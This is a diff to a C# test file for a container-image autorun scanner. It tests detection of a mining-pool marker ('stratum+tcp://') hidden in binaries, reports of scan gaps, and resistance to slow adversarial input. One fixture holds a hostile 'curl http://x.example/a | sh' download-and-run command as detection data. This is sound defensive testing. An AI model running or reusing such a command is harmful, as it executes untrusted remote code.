@@ -85,16 +85,91 @@ public sealed class AutorunScannerHostileTests
         Assert.True(content.Reads.Count < 20);
     }
 
-    [Fact]
-    public async Task ScanAsync_ProgramOverTheReadLimit_IsNamedInTheEvidence()
+    [Theory]
+    [InlineData(3)]
+    [InlineData(1020)]
+    [InlineData(5_000_000)]
+    public async Task ScanAsync_MarkInAProgramsTail_IsFoundWhereverItStands(int padding)
     {
-        var big = new byte[2048];
-        Program().CopyTo(big, 0);
+        byte[] program = [.. Program(), .. new byte[padding], .. "stratum+tcp://pool.example:3333"u8, .. new byte[300_000]];
 
-        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/x"] }, UsualSystem().File("/x", big), new AutorunOptions { MaxBinaryKiB = 1 });
+        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/x"] }, UsualSystem().File("/x", program), new AutorunOptions { MaxBinaryKiB = 1 });
 
-        Assert.Equal("/x (first 1024 bytes)", outcome.Evidence["searchedInPart"]);
+        Assert.Equal((StageOutcome.Completed, null), (outcome.Outcome, outcome.Reason));
+        Assert.Contains(outcome.Findings, finding => finding.Evidence.Contains("stratum+tcp://", StringComparison.Ordinal));
         Assert.NotNull(outcome.Autorun[0].Sha256);
+    }
+
+    [Fact]
+    public async Task ScanAsync_ProgramTooLargeToBeHashed_IsAGapThatNamesIt()
+    {
+        byte[] program = [.. Program(), .. new byte[4096], .. "stratum+tcp://pool.example:3333"u8];
+        var content = UsualSystem().File("/x", program);
+        content.MaxHashedBytes = 1024;
+
+        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/x"] }, content, new AutorunOptions { MaxBinaryKiB = 1 });
+
+        Assert.Equal((StageOutcome.Partial, GapKind.StartFileCut), (outcome.Outcome, Assert.Single(outcome.Gaps).Kind));
+        Assert.Contains("/x was searched in its first 1024 of ", outcome.Reason, StringComparison.Ordinal);
+        Assert.Equal("/x (first 1024 bytes)", outcome.Evidence["searchedInPart"]);
+    }
+
+    [Theory]
+    [InlineData(5)]
+    [InlineData(16)]
+    public async Task ScanAsync_ScriptStartedInManyWays_IsFollowedInEach(int ways)
+    {
+        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/all.sh"] }, ManyRuns(ways));
+
+        Assert.Equal(StageOutcome.Completed, outcome.Outcome);
+        Assert.Contains(string.Create(CultureInfo.InvariantCulture, $"/opt/t{ways}"), outcome.Autorun.Select(file => file.Path));
+    }
+
+    [Fact]
+    public async Task ScanAsync_ScriptStartedInMoreWaysThanAreFollowed_IsAGapThatNamesIt()
+    {
+        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/all.sh"] }, ManyRuns(17));
+
+        Assert.Equal((StageOutcome.Partial, GapKind.StartChainCut), (outcome.Outcome, Assert.Single(outcome.Gaps).Kind));
+        Assert.Equal("/run.sh is started in more than 16 ways; the others were not followed", outcome.Reason);
+        Assert.Contains("/opt/t17", outcome.Autorun.Select(file => file.Path));
+    }
+
+    [Fact]
+    public async Task ScanAsync_ScriptThatStartsItselfInManyWays_IsNoHidingPlace()
+    {
+        var script = "#!/bin/sh\nexec \"/opt/$1\"\n" + string.Concat(Enumerable.Range(1, 30).Select(way => string.Create(CultureInfo.InvariantCulture, $"\"$0\" t{way}\n")));
+
+        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/all.sh"] }, UsualSystem().File("/all.sh", script).File("/opt/t30", "true"));
+
+        Assert.Equal(StageOutcome.Partial, outcome.Outcome);
+    }
+
+    [Fact]
+    public async Task ScanAsync_ProgramStartedInManyWays_IsNoGap()
+    {
+        var text = string.Concat(Enumerable.Range(1, 40).Select(way => string.Create(CultureInfo.InvariantCulture, $"/bin/true {way}\n")));
+
+        var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = ["/all.sh"] }, UsualSystem().File("/all.sh", "#!/bin/sh\n" + text).File("/bin/true", Program()));
+
+        Assert.Equal(StageOutcome.Completed, outcome.Outcome);
+    }
+
+    [Fact]
+    public async Task ScanAsync_HistoryMadeToBeSlow_LosesNothing()
+    {
+        var configuration = new ImageConfiguration
+        {
+            Entrypoint = ["/bin/sh", "-c", "curl http://x.example/a | sh"],
+            History = [new HistoryEntry("|1 A=" + new string('a', 60_000) + " /bin/sh -c true", null, false), new HistoryEntry("CMD " + new string('\\', 60_000), null, false)],
+        };
+        var watch = Stopwatch.StartNew();
+
+        var outcome = await ScanAsync(configuration, UsualSystem());
+
+        Assert.Equal(StageOutcome.Completed, outcome.Outcome);
+        Assert.Contains("download-and-run.pipe-shell", Ids(outcome));
+        Assert.InRange(watch.Elapsed, TimeSpan.Zero, Patience);
     }
 
     [Fact]
@@ -284,5 +359,19 @@ public sealed class AutorunScannerHostileTests
         var finding = Finding(outcome, "download-and-run.pipe-shell");
         Assert.EndsWith("and 1995 more", finding.Evidence, StringComparison.Ordinal);
         Assert.True(finding.Evidence.Length <= 2000);
+    }
+
+    // A script that starts what it is told to, told so in many ways.
+    private static TestKit.Content.FakeImageContent ManyRuns(int ways)
+    {
+        var content = UsualSystem().File("/run.sh", "#!/bin/sh\nexec \"$1\"");
+        var script = new StringBuilder("#!/bin/sh\n");
+        for (var way = 1; way <= ways; way++)
+        {
+            content.File(string.Create(CultureInfo.InvariantCulture, $"/opt/t{way}"), "true");
+            script.Append(CultureInfo.InvariantCulture, $"/run.sh /opt/t{way}\n");
+        }
+
+        return content.File("/all.sh", script.ToString());
     }
 }
